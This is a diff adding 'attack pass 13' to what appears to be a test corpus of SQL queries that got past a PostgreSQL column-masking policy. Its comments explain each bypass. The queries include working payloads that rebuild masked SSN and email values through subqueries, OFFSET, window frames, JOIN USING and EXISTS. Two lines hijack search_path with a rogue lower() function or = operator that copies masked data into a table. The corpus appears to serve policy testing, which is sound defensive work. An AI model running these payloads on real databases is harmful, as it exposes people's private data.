@@ -197,3 +197,32 @@ CREATE TABLE leak (LIKE users); ALTER TABLE users INHERIT leak; SELECT * FROM le
 [rebuild] SELECT string_agg(chr(g), '' ORDER BY p) FROM users u, generate_series(1,20) p, generate_series(45,57) g WHERE u.id = 1 AND substr(u.ssn, p, 1) LIKE chr(g)
 [rebuild] SELECT string_agg(chr(g), '' ORDER BY p) FROM users u, generate_series(1,20) p, generate_series(45,57) g WHERE u.id = 1 AND u.ssn LIKE repeat('_', p - 1) || chr(g) || '%'
 [rebuild] SELECT string_agg(chr(g), '' ORDER BY p) FROM users u, generate_series(1,20) p, generate_series(45,57) g WHERE u.id = 1 AND g <> 46 AND u.ssn ~ ('^.{' || (p - 1) || '}' || chr(g))
+-- Attack pass 13 (after "one question about each row"): each of these was allowed by the policy and
+-- rebuilt a whole value in one query straight against PostgreSQL 15.
+-- A FROM column named like a constant ("true", "current_date") was taken for the constant.
+[rebuild] SELECT string_agg(chr("true" % 1000), '' ORDER BY "true") FROM users u, generate_series(1032, 11126) AS g("true") WHERE u.id = 1 AND ascii(substr(u.ssn, "true" / 1000, 1)) = "true" % 1000
+[rebuild] SELECT string_agg(chr("current_date" % 1000), '' ORDER BY "current_date") FROM users u, generate_series(1032, 17126) AS g("current_date") WHERE u.id = 1 AND ascii(substr(u.email, "current_date" / 1000, 1)) = "current_date" % 1000
+-- The comparison with the generated series was made in a subquery's or CTE's select list; the outer
+-- WHERE only tested the resulting boolean column, which counted as "one masked column against constants".
+[rebuild] SELECT string_agg(chr(s.c), '' ORDER BY s.p) FROM (SELECT p, c, ascii(substr(u.ssn, p, 1)) = c AS hit FROM users u, generate_series(1,20) p, generate_series(32,126) c WHERE u.id = 1) s WHERE s.hit
+[rebuild] WITH s AS (SELECT p, c, substr(u.email, p, 1) = chr(c) AS hit FROM users u, generate_series(1,40) p, generate_series(32,126) c WHERE u.id = 2) SELECT string_agg(chr(c), '' ORDER BY p) FROM s WHERE hit
+-- OFFSET and FETCH FIRST took a value computed from a masked column (their flow was walked and ignored):
+-- the row they picked from a series of candidates, or the number of rows they let through, was the value.
+[rebuild] SELECT string_agg((SELECT chr(g) FROM generate_series(32,126) g OFFSET ascii(substr(u.ssn, p, 1)) - 32 LIMIT 1), '' ORDER BY p) FROM users u, generate_series(1,11) p WHERE u.id = 1
+[rebuild] SELECT string_agg(chr(g), '' ORDER BY p) FROM generate_series(1,11) p, LATERAL (SELECT g FROM generate_series(0,126) g OFFSET (SELECT ascii(substr(ssn, p, 1)) FROM users WHERE id = 1) ROWS FETCH FIRST 1 ROWS ONLY) x
+[rebuild] SELECT string_agg(chr(c), '' ORDER BY p) FROM users u, generate_series(1,11) p, LATERAL (SELECT max(g) AS c FROM (SELECT g FROM generate_series(1,126) g FETCH FIRST ascii(substr(u.ssn, p, 1)) ROWS ONLY) y) x WHERE u.id = 1
+-- A window frame's offset took a masked-derived value: count(*) over the frame counted it out.
+[rebuild] SELECT string_agg(chr(n::int - 1), '' ORDER BY p) FROM (SELECT p, (SELECT count(*) OVER (ROWS BETWEEN CURRENT ROW AND (SELECT ascii(substr(ssn, p, 1)) FROM users WHERE id = 1) FOLLOWING) FROM generate_series(0,200) LIMIT 1) AS n FROM generate_series(1,11) p) x
+-- JOIN … USING and NATURAL JOIN compared the masked column with another relation's column without any
+-- condition check: a LATERAL side holding the value with one character replaced matched once per position.
+[rebuild] SELECT string_agg(chr(x.c), '' ORDER BY x.p) FROM users u JOIN LATERAL (SELECT p, c, substr(u.ssn, 1, p - 1) || chr(c) || substr(u.ssn, p + 1) AS ssn FROM generate_series(1,20) p, generate_series(32,126) c) x USING (ssn) WHERE u.id = 1
+[rebuild] SELECT string_agg(chr(x.c), '' ORDER BY x.p) FROM (SELECT id, ssn FROM users WHERE id = 2) u NATURAL JOIN LATERAL (SELECT u.id, p, c, substr(u.ssn, 1, p - 1) || chr(c) || substr(u.ssn, p + 1) AS ssn FROM generate_series(1,20) p, generate_series(32,126) c) x
+-- EXISTS over a subquery that computed from a masked column without a masked WHERE test was taken as a
+-- gated answer but recorded no test, and a gated conjunct was not checked at all.
+[rebuild] SELECT string_agg(chr(c), '' ORDER BY p) FROM users u, generate_series(1,20) p, generate_series(32,126) c WHERE u.id = 1 AND EXISTS (SELECT 1 FROM generate_series(1, 1 - abs(ascii(substr(u.ssn, p, 1)) - c)))
+[rebuild] SELECT string_agg(CASE WHEN EXISTS (SELECT 1 FROM generate_series(1, 1 - abs(ascii(substr(u.email, p, 1)) - c))) THEN chr(c) END, '' ORDER BY p) FROM users u, generate_series(1,40) p, generate_series(32,126) c WHERE u.id = 2
+-- SET search_path with pg_catalog after a writable schema was allowed, and a call or operator was judged
+-- by its name as a read-only built-in: a user lower(text) or a user = (text, text) in public received
+-- every row's masked value from a WHERE condition and stored it in notes.
+SET search_path = public, pg_catalog; CREATE FUNCTION public.lower(text) RETURNS text LANGUAGE sql AS $$ INSERT INTO notes SELECT 100 + count(*), $1 FROM notes RETURNING $1 $$; SELECT id FROM users WHERE lower(ssn) = 'x'; DROP FUNCTION public.lower(text)
+SET search_path = public, pg_catalog; CREATE FUNCTION public.lk(text, text) RETURNS boolean LANGUAGE sql AS $$ INSERT INTO notes SELECT 100 + count(*), $1 FROM notes RETURNING false $$; CREATE OPERATOR public.= (FUNCTION = public.lk, LEFTARG = text, RIGHTARG = text); SELECT id FROM users WHERE ssn = 'x'; DROP OPERATOR public.= (text, text); DROP FUNCTION public.lk(text, text)
